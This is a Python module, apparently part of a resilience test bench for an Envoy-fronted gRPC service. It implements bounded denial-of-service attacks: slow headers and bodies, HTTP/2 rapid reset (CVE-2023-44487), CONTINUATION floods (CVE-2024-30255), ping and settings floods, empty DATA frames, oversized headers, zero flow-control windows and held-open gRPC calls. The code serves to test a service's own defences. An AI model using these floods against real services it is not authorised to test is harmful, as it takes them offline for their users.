"""Attacks below the API: by time, by frames of HTTP/2, by headers, by answers that are not taken.

Each is bounded, and returns what became of it: how its connections ended, or how its requests were answered.
"""

import asyncio
from collections import Counter
from collections.abc import Awaitable, Callable, Iterator
from itertools import count

from bench.attacks import http2
from bench.attacks.http2 import (
    INITIAL_WINDOW_SIZE,
    Connection,
    Kind,
    connected,
    frame,
    request,
)

_SECONDS = 4.0  # that each takes; what is slow is then cut off
_STREAMS = 100  # that Envoy lets one connection have
_USER_INFO = "/passerelle.v1.ComputeService/GetUserInfo"


async def slow_headers(address: str, token: str) -> Counter[str]:
    """A byte of a header now and then, for as long as the connection lasts."""
    head = b"GET /status/systems HTTP/1.1\r\nhost: x\r\nx-slow: "
    return await _many(200, lambda: _trickled(address, head))


async def slow_bodies(address: str, token: str) -> Counter[str]:
    """The same of a body, by somebody with a valid token."""
    head = (
        "POST /compute/local/jobs HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n"
        f"content-length: 100000\r\nauthorization: Bearer {token}\r\n\r\n"
    )
    return await _many(200, lambda: _trickled(address, head.encode()))


async def upgrades(address: str, token: str) -> Counter[str]:
    """Requests to speak WebSocket from now on."""
    head = (
        b"GET /status/systems HTTP/1.1\r\nhost: x\r\nconnection: upgrade\r\nupgrade: websocket\r\n"
        b"sec-websocket-version: 13\r\nsec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
    )
    return await _many(500, lambda: _trickled(address, head, seconds=0))


async def resets(address: str, token: str) -> Counter[str]:
    """Requests that are given up as soon as they are made (CVE-2023-44487)."""
    return await _many(10, lambda: _flooded(address, (_given_up(n) for n in count(1, 2))))


async def resets_of_a_user(address: str, token: str) -> Counter[str]:
    """The same with a valid token, so that each request reaches a service."""
    shown = {"authorization": f"Bearer {token}"}
    return await _many(10, lambda: _flooded(address, (_given_up(n, **shown) for n in count(1, 2))))


def _given_up(number: int, **more: str) -> bytes:
    made = request(number, "GET", "/v1/systems/local/userinfo", end=True, **more)
    return made + frame(Kind.RST_STREAM, stream=number, payload=bytes((0, 0, 0, 8)))


async def continuations(address: str, token: str) -> Counter[str]:
    """Headers that never end (CVE-2024-30255)."""

    def pieces() -> Iterator[bytes]:
        yield frame(Kind.HEADERS, stream=1, payload=http2.fields({":method": "GET"}))
        for number in count():
            block = http2.fields({f"x-{number}": "x" * 8000})
            yield frame(Kind.CONTINUATION, stream=1, payload=block)

    return await _many(10, lambda: _flooded(address, pieces()))


async def control_frames(address: str, token: str) -> Counter[str]:
    """Frames that want an answer, which is not read (CVE-2019-9512, CVE-2019-9515)."""
    asking = frame(Kind.PING, payload=bytes(8)) + frame(Kind.SETTINGS)
    return await _many(10, lambda: _flooded(address, (asking * 100 for _ in count())))


async def empty_data(address: str, token: str) -> Counter[str]:
    """Frames without data, of a stream that somebody with a valid token has opened (CVE-2019-9518)."""

    def pieces() -> Iterator[bytes]:
        yield call(1, token)
        for _ in count():
            yield frame(Kind.DATA, stream=1) * 100

    return await _many(10, lambda: _flooded(address, pieces()))


async def large_headers(address: str, token: str) -> Counter[str]:
    """As much in headers as is read, on as many streams as there may be."""
    fill = {f"x_{n}": "x" * 15_000 for n in range(5)}

    def block(number: int) -> bytes:
        return request(number, "GET", "/status/systems", end=True, **fill)

    return await _many(5, lambda: _answered(address, [block(n) for n in range(1, 200, 2)]))


async def nothing_taken(address: str, token: str) -> Counter[str]:
    """Answers that may not be sent: of Envoy to anybody, and of a service to somebody with a valid token."""
    bearer = f"Bearer {token}"
    requests = [
        request(1 + 4 * n, "GET", "/docs/swagger-ui-bundle.js", end=True)
        for n in range(_STREAMS // 2)
    ] + [
        request(3 + 4 * n, "GET", "/v1/systems", end=True, authorization=bearer)
        for n in range(_STREAMS // 2)
    ]
    window = http2.setting(INITIAL_WINDOW_SIZE, 0)
    return await _many(20, lambda: _answered(address, sorted(requests, key=_number), window))


async def open_calls(address: str, token: str) -> Counter[str]:
    """Calls without a message, as many as a service takes at once, by one user with a valid token."""
    calls = [call(number, token) for number in range(1, 2 * _STREAMS, 2)]
    return await _many(25, lambda: _answered(address, calls))


def call(number: int, token: str) -> bytes:
    """The headers of a gRPC call, of which no message follows."""
    more = {
        "content_type": "application/grpc",
        "te": "trailers",
        "authorization": f"Bearer {token}",
    }
    return request(number, "POST", _USER_INFO, end=False, **more)


def _number(piece: bytes) -> int:
    return int.from_bytes(piece[5:9], "big")


async def _many(connections: int, attack: Callable[[], Awaitable[Counter[str]]]) -> Counter[str]:
    outcomes: Counter[str] = Counter()
    for one in await asyncio.gather(*(attack() for _ in range(connections))):
        outcomes += one
    return outcomes


async def _trickled(address: str, head: bytes, *, seconds: float = _SECONDS) -> Counter[str]:
    """The server's reply to a request that is sent a byte at a time; `open` without one."""
    host, _, port = address.rpartition(":")
    try:
        reader, writer = await asyncio.open_connection(host, int(port))
    except OSError:
        return Counter(("closed",))
    try:
        writer.write(head)
        answer = asyncio.ensure_future(reader.readline())
        for _ in range(int(seconds * 2)):
            await asyncio.wait((answer,), timeout=0.5)
            if answer.done():
                break
            writer.write(b"x")
        if seconds and not answer.done():
            answer.cancel()
            return Counter(("open",))
        line = await answer
        return Counter((line.split()[1].decode() if line else "closed",))
    except OSError:
        return Counter(("closed",))
    finally:
        writer.transport.abort()


async def _flooded(address: str, pieces: Iterator[bytes]) -> Counter[str]:
    """Send without reading until the connection ends or the time is over."""
    async with connected(address) as link:
        try:
            async with asyncio.timeout(_SECONDS):
                for piece in pieces:
                    if not await link.send(piece):
                        return Counter(("closed",))
                    await asyncio.sleep(0)
        except TimeoutError:
            return Counter(("open",))
    return Counter(("closed",))


async def _answered(address: str, requests: list[bytes], settings: bytes = b"") -> Counter[str]:
    """Send requests, and count the streams that get headers, that are reset, and that stay open."""
    async with connected(address, settings) as link:
        for one in requests:
            if not await link.send(one):
                return Counter(("closed",))
        seen: dict[int, str] = {}
        try:
            async with asyncio.timeout(_SECONDS):
                await _collect(link, seen, len(requests))
        except TimeoutError:
            pass
    return Counter(seen.values()) + Counter({"open": len(requests) - len(seen)})


async def _collect(link: Connection, seen: dict[int, str], wanted: int) -> None:
    async for kind, _, stream, _ in link.frames():
        if kind == Kind.HEADERS:
            seen.setdefault(stream, "answered")
        elif kind == Kind.RST_STREAM:
            seen.setdefault(stream, "reset")
        if len(seen) == wanted:
            return


FLOODS: dict[str, Callable[[str, str], Awaitable[Counter[str]]]] = {
    "slow headers": slow_headers,
    "slow bodies, valid token": slow_bodies,
    "upgrades": upgrades,
    "rapid resets": resets,
    "rapid resets, valid token": resets_of_a_user,
    "endless headers": continuations,
    "control frames": control_frames,
    "empty data, valid token": empty_data,
    "large headers": large_headers,
    "nothing is taken": nothing_taken,
    "open calls, valid token": open_calls,
}
